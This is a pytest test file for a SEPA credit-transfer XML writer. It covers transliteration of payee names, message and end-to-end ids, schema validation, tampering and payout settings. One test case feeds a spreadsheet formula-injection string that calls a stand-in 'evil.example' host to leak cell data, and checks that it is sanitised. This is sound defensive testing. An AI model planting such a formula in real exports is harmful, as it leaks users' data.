"""SEPA credit-transfer files on their own: names in the SEPA character set, ids from the payout and
the batch, exact amounts, and every file checked against the official schema of its version."""

from __future__ import annotations

import uuid
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, cast

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError
from xmlschema import XMLSchemaValidationError

from fieldcheck.ledger import sepa
from fieldcheck.ledger.providers import (
    DEMO_DEBTOR,
    PayoutOrder,
    SepaXmlPayoutProvider,
    batch_made_at,
    iban_is_valid,
    new_batch_key,
)
from fieldcheck.ledger.sepa import Debtor, Transfer, credit_transfer, end_to_end_id, message_id, sepa_text
from fieldcheck.settings import Settings
from tests.support.sepa import VERSIONS, is_sepa_text, read, schema_errors

IBAN = "FR7630006000011234567890189"
DEBTOR = Debtor(name="Plateforme Fieldcheck SAS", iban="FR1420041010050500013M02606", bic="PSSTFRPPLIL")
MADE = datetime(2026, 5, 1, 10, 15, 0, tzinfo=UTC)
KEY = "payouts/batches/2026/05/01/101500-3fa2c1d9.xml"
# The most a SEPA credit transfer may carry (EPC rulebook: 999,999,999.99 euros).
SEPA_MAX_CENTS = 99_999_999_999


def transfer(amount_cents: int = 2_000, name: str = "Ana Worker") -> Transfer:
    payout_id = str(uuid.uuid4())
    return Transfer(end_to_end_id(payout_id), name, IBAN, amount_cents, sepa.remittance(payout_id))


def document(version: Any, transfers: list[Transfer], debtor: Debtor = DEBTOR) -> bytes:
    return credit_transfer(
        version, message=message_id(KEY), created_at=MADE, debtor=debtor, transfers=transfers
    )


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_any_name_becomes_sepa_characters_only_and_at_most_70_of_them(name: str) -> None:
    written = sepa_text(name)
    assert is_sepa_text(written)
    assert 1 <= len(written) <= sepa.NAME_LENGTH
    assert written == written.strip() and "  " not in written


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet=sorted(sepa.EPC_CHARACTERS - {" "}), min_size=1, max_size=70))
def test_a_name_already_in_the_sepa_set_is_kept(name: str) -> None:
    assert sepa_text(name) == name


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ("Zoë Dąbrowska-Øster", "Zoe Dabrowska-Oster"),
        ("Ægir Þórsson", "AEgir Thorsson"),
        ("Straße 12 & Söhne", "Strasse 12 Sohne"),
        ("  José\tMaría\n", "Jose Maria"),
        ("O'Brien (jr.), M+M", "O'Brien (jr.), M+M"),
        ("张伟", "Zhang Wei"),
        ("😀😀", sepa.NAME_PLACEHOLDER),
        ("", sepa.NAME_PLACEHOLDER),
        ('=HYPERLINK("http://evil.example/?leak="&A1)', "HYPERLINK( http://evil.example/?leak A1)"),
        ("x" * 80, "x" * 70),
        ("a" * 69 + " b", "a" * 69),  # cut at 70, the trailing space dropped
    ],
)
def test_names_are_transliterated(name: str, written: str) -> None:
    assert sepa_text(name) == written


def test_the_end_to_end_id_is_the_payout_id() -> None:
    payout_id = uuid.uuid4()
    written = end_to_end_id(str(payout_id))
    assert len(written) == 32 <= sepa.ID_LENGTH
    assert uuid.UUID(written) == payout_id


def test_the_message_id_and_the_time_come_from_the_batch_key() -> None:
    assert message_id(KEY) == "FC-2026-05-01-101500-3fa2c1d9"
    assert batch_made_at(KEY) == MADE
    key = new_batch_key(datetime(2026, 12, 31, 23, 59, 58, 999_999, tzinfo=UTC))
    assert key.startswith("payouts/batches/2026/12/31/235958-") and key.endswith(".xml")
    assert batch_made_at(key) == datetime(2026, 12, 31, 23, 59, 58, tzinfo=UTC)
    assert message_id(key) == message_id(key) != message_id(new_batch_key(MADE))
    # A batch made before the SEPA files (a .csv key left `sending`) is still read.
    assert batch_made_at(KEY.replace(".xml", ".csv")) == MADE
    with pytest.raises(ValueError, match="not a payout batch key"):
        batch_made_at("payouts/other/thing.xml")


@given(st.text(min_size=1, max_size=300))
def test_any_batch_key_gives_a_message_id_that_fits(key: str) -> None:
    written = message_id(key)
    assert len(written) <= sepa.ID_LENGTH - 2  # room for the payment-information id's "-1"
    assert written == message_id(key)


@pytest.mark.parametrize("version", VERSIONS)
def test_a_file_holds_the_schema_of_its_version(version: Any) -> None:
    transfers = [transfer(2_000, "Zoë Dąbrowska-Øster"), transfer(1_005, "张伟"), transfer(1)]
    written = document(version, transfers)
    assert schema_errors(written, version) == []
    other = VERSIONS[1 - VERSIONS.index(version)]
    assert schema_errors(written, other) != []  # each version is checked against its own schema
    found = read(written)
    assert found.version == version
    assert found.message_id == "FC-2026-05-01-101500-3fa2c1d9"
    assert found.payment_ids == ["FC-2026-05-01-101500-3fa2c1d9-1"]
    assert found.created_at == "2026-05-01T10:15:00"
    assert found.execution_date == "2026-05-01"
    assert (found.count, found.control_sum_cents) == (3, 3_006)
    assert (found.payment_counts, found.payment_sums_cents) == ([3], [3_006])
    assert (found.debtor_name, found.debtor_iban, found.debtor_bic) == (DEBTOR.name, DEBTOR.iban, DEBTOR.bic)
    assert [t.creditor_name for t in found.transactions] == ["Zoe Dabrowska-Oster", "Zhang Wei", "Ana Worker"]
    assert [t.amount_cents for t in found.transactions] == [2_000, 1_005, 1]
    assert {t.currency for t in found.transactions} == {"EUR"}
    assert [t.end_to_end_id for t in found.transactions] == [t.end_to_end_id for t in transfers]


@pytest.mark.parametrize("version", VERSIONS)
def test_the_same_batch_is_the_same_file(version: Any) -> None:
    transfers = [transfer(2_000), transfer(3_000)]
    assert document(version, transfers) == document(version, transfers)


@pytest.mark.parametrize("version", VERSIONS)
def test_without_a_bic_the_debtor_bank_is_not_provided(version: Any) -> None:
    written = document(version, [transfer()], debtor=DEMO_DEBTOR)
    assert schema_errors(written, version) == []
    assert read(written).debtor_bic is None
    assert b"<Othr>\n            <Id>NOTPROVIDED</Id>" in written


TAMPERINGS = [
    pytest.param(
        lambda x: x.replace(b"<MsgId>FC-", b"<MsgId>" + b"X" * 40 + b"FC-"), id="message id over 35 chars"
    ),
    pytest.param(lambda x: x.replace(IBAN.encode(), b"FR76 3000 6000 0112"), id="IBAN with spaces"),
    pytest.param(lambda x: x.replace(b'Ccy="EUR"', b'Ccy="EURO"'), id="currency code"),
    pytest.param(lambda x: x.replace(b"<NbOfTxs>1</NbOfTxs>", b"<NbOfTxs>one</NbOfTxs>", 1), id="count"),
    pytest.param(
        lambda x: x.replace(b"<CtrlSum>20.00</CtrlSum>", b"<CtrlSum>20,00</CtrlSum>", 1),
        id="sum with a comma",
    ),
    pytest.param(lambda x: x.replace(b"<ChrgBr>SLEV</ChrgBr>", b"<ChrgBr>ALL</ChrgBr>"), id="charges"),
    pytest.param(lambda x: x.replace(b"<PmtMtd>TRF</PmtMtd>", b""), id="payment method removed"),
]


@pytest.mark.parametrize("version", VERSIONS)
@pytest.mark.parametrize("tamper", TAMPERINGS)
def test_a_tampered_file_fails_the_schema(version: Any, tamper: Any) -> None:
    written = document(version, [transfer(2_000)])
    assert schema_errors(written, version) == []
    tampered = tamper(written)
    assert tampered != written
    assert schema_errors(tampered, version) != []


@pytest.mark.parametrize("version", VERSIONS)
def test_a_file_the_schema_refuses_is_never_written(version: Any) -> None:
    bad_bic = Debtor(name=DEBTOR.name, iban=DEBTOR.iban, bic="NOT A BIC")
    with pytest.raises(XMLSchemaValidationError):
        document(version, [transfer()], debtor=bad_bic)


@settings(max_examples=25, deadline=None)
@given(
    amounts=st.lists(st.integers(1, SEPA_MAX_CENTS), min_size=1, max_size=8),
    names=st.lists(st.text(), min_size=8, max_size=8),
    version=st.sampled_from(VERSIONS),
)
def test_amounts_and_the_control_sum_are_exact(amounts: list[int], names: list[str], version: Any) -> None:
    written = document(version, [transfer(a, n) for a, n in zip(amounts, names, strict=False)])
    assert schema_errors(written, version) == []
    found = read(written)
    assert [t.amount_cents for t in found.transactions] == amounts
    assert found.count == len(amounts)
    assert found.control_sum_cents == sum(amounts) == sum(found.payment_sums_cents)
    assert all(is_sepa_text(t.creditor_name) and len(t.creditor_name) <= 70 for t in found.transactions)


class Shelf:
    """Object storage that keeps what is put into it."""

    def __init__(self) -> None:
        self.objects: dict[str, tuple[bytes, str]] = {}

    def put(self, key: str, data: bytes, *, content_type: str) -> None:
        self.objects[key] = (data, content_type)


def order(currency: str = "EUR", iban: str = IBAN, amount_cents: int = 1_500) -> PayoutOrder:
    return PayoutOrder(str(uuid.uuid4()), "Zoë Dąbrowska-Øster", iban, amount_cents, currency)


def test_the_provider_writes_euros_with_valid_ibans_and_refuses_the_rest() -> None:
    shelf = Shelf()
    provider = SepaXmlPayoutProvider(cast("Any", shelf), debtor=DEBTOR, version="pain.001.001.09")
    good, bad_iban, francs = order(), order(iban="FR7630006000011234567890188"), order(currency="CHF")
    results = {r.payout_id: r for r in provider.send([good, bad_iban, francs], batch_key=KEY)}
    assert results[good.payout_id].sent and results[good.payout_id].batch_key == KEY
    assert results[bad_iban.payout_id].failure == "the IBAN does not validate"
    assert results[francs.payout_id].failure == "only euros can be paid out by SEPA transfer"
    assert not results[bad_iban.payout_id].sent and not results[francs.payout_id].sent
    data, content_type = shelf.objects[KEY]
    assert content_type == "application/xml"
    assert [uuid.UUID(t.end_to_end_id) for t in read(data).transactions] == [uuid.UUID(good.payout_id)]
    # Nothing sendable: no file at all.
    assert provider.send([order(currency="USD")], batch_key="payouts/batches/2026/05/01/101501-00000000.xml")
    assert list(shelf.objects) == [KEY]


def test_the_debtor_comes_from_the_settings_or_is_the_demo_one(tmp_path: Path) -> None:
    assert iban_is_valid(DEMO_DEBTOR.iban)
    shelf = cast("Any", Shelf())
    demo = SepaXmlPayoutProvider.from_settings(shelf, Settings(home=tmp_path))
    assert (demo.debtor, demo.version) == (DEMO_DEBTOR, "pain.001.001.09")
    configured = SepaXmlPayoutProvider.from_settings(
        shelf,
        Settings(
            home=tmp_path,
            payout_pain_version="pain.001.001.03",
            payout_debtor_name="Plateforme Fieldcheck SAS",
            payout_debtor_iban="fr14 2004 1010 0505 0001 3m02 606",
            payout_debtor_bic="psstfrpplil",
        ),
    )
    assert configured.debtor == DEBTOR
    assert configured.version == "pain.001.001.03"


def test_a_debtor_set_by_halves_or_badly_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValidationError, match="together"):
        Settings(home=tmp_path, payout_debtor_iban=DEBTOR.iban)
    with pytest.raises(ValidationError, match="together"):
        Settings(home=tmp_path, payout_debtor_name="Plateforme", payout_debtor_bic="PSSTFRPPLIL")
    with pytest.raises(ValidationError):
        Settings(
            home=tmp_path, payout_debtor_name="P", payout_debtor_iban=DEBTOR.iban, payout_debtor_bic="PSST"
        )
    with pytest.raises(ValidationError):
        Settings(home=tmp_path, payout_pain_version=cast("Any", "pain.001.001.02"))
    # An IBAN that does not validate is refused when the provider is made, before any payout moves.
    wrong = Settings(home=tmp_path, payout_debtor_name="P", payout_debtor_iban="FR1420041010050500013M02607")
    with pytest.raises(ValueError, match="FIELDCHECK_PAYOUT_DEBTOR_IBAN"):
        SepaXmlPayoutProvider.from_settings(cast("Any", Shelf()), wrong)
